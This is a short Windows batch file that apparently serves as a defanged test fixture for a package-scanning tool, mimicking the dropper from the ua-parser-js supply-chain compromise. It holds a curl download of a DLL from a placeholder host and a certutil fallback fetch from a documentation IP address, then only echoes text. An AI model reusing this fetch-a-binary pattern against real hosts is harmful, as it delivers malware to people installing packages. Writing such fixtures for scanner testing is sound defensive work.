@echo off
rem DEFANGED TEST FIXTURE for pkgward: ua-parser-js shape; .invalid host; runs echo only.
curl http://citationsherbe.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
    certutil.exe -urlcache -f http://198.51.100.5/sdd.dll compile.dll
)
start /B echo pkgward test fixture
